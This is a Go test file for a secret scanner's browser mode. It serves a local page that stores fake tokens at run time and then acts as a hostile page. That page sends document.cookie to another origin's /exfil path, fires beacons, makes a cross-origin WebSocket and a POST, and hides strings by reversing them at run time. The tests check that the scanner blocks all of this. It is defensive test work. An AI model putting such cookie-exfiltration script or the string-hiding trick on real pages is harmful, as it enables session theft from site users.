package main

// --browser: what only exists when the page runs (a config URL built at
// run time, a token a script writes into localStorage, a cookie, a
// WebSocket frame, the DOM, a worker's fetch) is found, and the page,
// hostile, can neither reach another origin (by fetch, image, WebSocket,
// worker or navigation) nor submit anything, nor get the --header value.

import (
	"crypto/sha1"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cratesguard/cratesguard/internal/browser"
	"github.com/cratesguard/cratesguard/internal/browsertest"
	"github.com/cratesguard/cratesguard/internal/tokentest"
)

// jsSplit writes a string into JavaScript so that only running the script
// puts it together: reversed, and turned round at run time. (Split into
// literals and joined, it would not do: the decoder reads those since
// issue 22.)
func jsSplit(s string) string {
	r := []byte(s)
	slices.Reverse(r)
	return fmt.Sprintf("[...%q].reverse().join(\"\")", r)
}

// runtimeSite is an app whose leaks exist only at run time.
type runtimeSite struct {
	*httptest.Server
	tok      map[string]string
	mu       sync.Mutex
	sent     []string // non-GET requests that reached it
	header   map[string]bool
	otherHit []string
}

func newRuntimeSite(t *testing.T) *runtimeSite {
	src := tokentest.New(4242)
	s := &runtimeSite{tok: map[string]string{}, header: map[string]bool{}}
	for _, k := range []string{"api", "storage", "cookie", "ws", "dom", "worker"} {
		s.tok[k] = src.API()
	}
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		s.otherHit = append(s.otherHit, r.URL.Path)
		s.mu.Unlock()
	}))
	t.Cleanup(other.Close)
	otherWS := "ws" + strings.TrimPrefix(other.URL, "http")
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		if r.Method != http.MethodGet && r.Method != http.MethodHead {
			s.sent = append(s.sent, r.Method+" "+r.URL.Path)
		}
		s.header[r.URL.Path] = r.Header.Get("X-Deploy-Key") == "deploy-key-for-a"
		s.mu.Unlock()
		switch r.URL.Path {
		case "/":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, `<!doctype html><title>app</title><div id=app></div>
<script>
const env = ["pro","d"].join("");
fetch(location.origin + "/api/" + env).then(r => r.json()).then(c => { window.cfg = c; });
localStorage.setItem("publish", %[1]s);
document.cookie = "session=" + %[2]s + "; path=/";
const ws = new WebSocket(location.origin.replace("http", "ws") + "/feed");
ws.onopen = () => ws.send("subscribe");
document.getElementById("app").innerHTML = "<a href='/" + ["ad","min"].join("") + "'>admin</a> " + %[3]s;
new Worker("/w" + "orker.js");
// What a hostile page tries:
fetch("%[4]s/exfil?d=" + document.cookie).catch(() => {});
new Image().src = "%[4]s/pixel";
try { new WebSocket("%[5]s/ws"); } catch (e) {}
fetch("/api/write", {method: "POST", body: "x"}).catch(() => {});
setTimeout(() => { location.href = "%[4]s/away"; }, 200);
</script>`, jsSplit(s.tok["storage"]), jsSplit(s.tok["cookie"]), jsSplit(s.tok["dom"]), other.URL, otherWS)
		case "/api/prod":
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprintf(w, `{"registry":{"token":%q}}`, s.tok["api"])
		case "/feed":
			serveWS(w, r, "hello "+s.tok["ws"])
		case "/worker.js":
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprintf(w, "fetch(\"/wor\" + \"ker-config\").then(r => r.text());\nfetch(%q).catch(() => {});\n", other.URL+"/from-worker")
		case "/worker-config":
			fmt.Fprintf(w, "key=%s\n", s.tok["worker"])
		case "/admin":
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, "<p>admin</p>")
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(s.Server.Close)
	return s
}

// serveWS answers a WebSocket handshake and sends one text frame.
func serveWS(w http.ResponseWriter, r *http.Request, text string) {
	sum := sha1.Sum([]byte(r.Header.Get("Sec-WebSocket-Key") + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"))
	conn, buf, err := w.(http.Hijacker).Hijack()
	if err != nil {
		return
	}
	defer conn.Close()
	fmt.Fprintf(buf, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: %s\r\n\r\n", base64.StdEncoding.EncodeToString(sum[:]))
	buf.Write(append([]byte{0x81, byte(len(text))}, text...))
	buf.Flush()
	conn.SetReadDeadline(time.Now().Add(2 * time.Second))
	io.Copy(io.Discard, conn)
}

func TestBrowserFindsWhatOnlyExistsAtRunTime(t *testing.T) {
	path := browsertest.Need(t, browser.Find)
	s := newRuntimeSite(t)
	all := []string{s.tok["api"], s.tok["storage"], s.tok["cookie"], s.tok["ws"], s.tok["dom"], s.tok["worker"]}

	// Without the browser, none of it is reachable: the test is not
	// passing on the crawl's account.
	plain := cli(t, "scan", "--depth", "2", s.URL+"/")
	for k, tok := range s.tok {
		if strings.Contains(plain.stdout, sha(tok)[:12]) {
			t.Fatalf("the %s token was found without a browser: the site does not test the browser", k)
		}
	}

	r := cli(t, "scan", "--browser-path", path, "--depth", "2", "--header", "X-Deploy-Key: deploy-key-for-a", "--format", "json", s.URL+"/")
	if r.code != 1 {
		t.Fatalf("exit %d, want 1\n%s\n%s", r.code, r.stdout, r.stderr)
	}
	noLeak(t, r, all...)
	rep := parseJSON(t, r.stdout)
	want := map[string]string{ // token -> a place it must be reported at
		s.tok["api"]:     "/api/prod",
		s.tok["storage"]: "localStorage, in the browser",
		s.tok["cookie"]:  "cookies, in the browser",
		s.tok["ws"]:      "WebSocket text frames, in the browser",
		s.tok["dom"]:     "rendered DOM, in the browser",
		s.tok["worker"]:  "/worker-config",
	}
	for tok, place := range want {
		f := rep.finding(sha(tok))
		if f == nil {
			t.Errorf("not found: the token at %s", place)
			continue
		}
		ok := false
		for _, l := range f.Locations {
			if (l.Part == place || strings.HasSuffix(l.Target, place)) && l.Browser {
				ok = true
			}
		}
		if !ok {
			t.Errorf("the token at %s is reported at %+v, not there by the browser", place, f.Locations)
		}
	}
	// The exfiltration attempt carried the cookie's token in its URL: that
	// URL is a place of the token too.
	if f := rep.finding(sha(s.tok["cookie"])); f != nil {
		ok := false
		for _, l := range f.Locations {
			ok = ok || l.Part == "a URL the page asked for, in the browser"
		}
		if !ok {
			t.Errorf("the blocked request that carried the token is not one of its places: %+v", f.Locations)
		}
	}
	// The link the script added to the DOM fed the crawl.
	if !rep.target(s.URL+"/admin", "scanned") {
		t.Error("/admin, linked only from the rendered DOM, was not crawled")
	}

	s.mu.Lock()
	defer s.mu.Unlock()
	if len(s.otherHit) > 0 {
		t.Errorf("the page reached another origin through the browser: %v", s.otherHit)
	}
	if len(s.sent) > 0 {
		t.Errorf("the browser submitted: %v", s.sent)
	}
	if !s.header["/api/prod"] {
		t.Error("the runtime request did not carry the --header its origin is owed")
	}
	if !strings.Contains(r.stdout, "POST request") {
		t.Error("the blocked POST is not reported")
	}
	if !strings.Contains(r.stdout, "is not a start origin") {
		t.Error("the page's requests to another origin are not reported as skipped")
	}

	// The same in SARIF: every place has a file URI GitHub accepts (the
	// acceptance check runs over it in TestMain), browser parts apart.
	txt := string(r.sarif)
	for _, suffix := range []string{"index.localStorage", "index.cookies", "index.dom", "/feed.websocket"} {
		if !strings.Contains(txt, suffix+`"`) {
			t.Errorf("SARIF has no location ending %s", suffix)
		}
	}
}

// jsonReport is the part of --format json the browser tests read.
type jsonReport struct {
	Findings []struct {
		Sha256    string
		Locations []struct {
			Target, Part string
			Browser      bool
		}
	}
	Targets []struct {
		Target, State, Reason, Via string
		Warnings                   []string
	}
	Warnings []string
}

func parseJSON(t *testing.T, out string) *jsonReport {
	t.Helper()
	var r jsonReport
	if err := json.Unmarshal([]byte(out), &r); err != nil {
		t.Fatalf("not JSON: %v", err)
	}
	return &r
}

func (r *jsonReport) finding(sha string) *struct {
	Sha256    string
	Locations []struct {
		Target, Part string
		Browser      bool
	}
} {
	for i := range r.Findings {
		if r.Findings[i].Sha256 == sha {
			return &r.Findings[i]
		}
	}
	return nil
}

func (r *jsonReport) targetWithReason(url, state, reason string) bool {
	for _, t := range r.Targets {
		if t.Target == url && t.State == state && strings.Contains(t.Reason, reason) {
			return true
		}
	}
	return false
}

func (r *jsonReport) target(url, state string) bool {
	for _, t := range r.Targets {
		if t.Target == url && t.State == state {
			return true
		}
	}
	return false
}

func TestBrowserMissingIsAUsageError(t *testing.T) {
	t.Setenv("PATH", t.TempDir())
	r := cli(t, "scan", "--browser", "http://127.0.0.1:9/")
	if r.code != 2 || !strings.Contains(r.stderr, "apt-get install chromium") || !strings.Contains(r.stderr, "--browser") {
		t.Errorf("exit %d; stderr:\n%s", r.code, r.stderr)
	}
	r = cli(t, "scan", "--browser-path", "/nowhere/chromium", "http://127.0.0.1:9/")
	if r.code != 2 || !strings.Contains(r.stderr, "--browser-path") || !strings.Contains(r.stderr, "not an executable file") {
		t.Errorf("exit %d; stderr:\n%s", r.code, r.stderr)
	}
}

// TestActionBrowser: the Action's browser input. In the default image
// (no browser) it is bad input naming the browser variant; where Chromium
// is on PATH (the variant's image) the run finds what only the browser
// can, and every token is masked before anything else is printed.
func TestActionBrowser(t *testing.T) {
	r := newRunner(t, "release", releasePayload).input("urls", "https://example.invalid/").input("browser", "true")
	r.env["PATH"] = t.TempDir()
	res := r.run()
	if res.code != 2 || res.outputs["exit-code"] != "2" || !strings.Contains(res.stdout, "::error::cratesguard: input browser: no Chromium") ||
		!strings.Contains(res.stdout, "cratesguard/cratesguard/browser@v1") {
		t.Fatalf("no browser: exit %d\n%s", res.code, res.stdout)
	}

	path := browsertest.Need(t, browser.Find)
	s := newRuntimeSite(t)
	r = newRunner(t, "release", releasePayload).input("urls", s.URL+"/").input("browser", "true").input("browser-timeout", "20s")
	r.env["PATH"] = filepath.Dir(path) + string(os.PathListSeparator) + r.env["PATH"]
	res = r.run()
	if res.code != 1 || res.outputs["tokens"] != "6" {
		t.Fatalf("exit %d outputs %v\n%s\n%s", res.code, res.outputs, res.stdout, res.stderr)
	}
	var all []string
	for _, tok := range s.tok {
		all = append(all, tok)
	}
	onlyMasked(t, res, all...)
	if !strings.Contains(res.summary, "localStorage, in the browser") {
		t.Errorf("the summary does not say where the browser found it:\n%s", res.summary)
	}
}
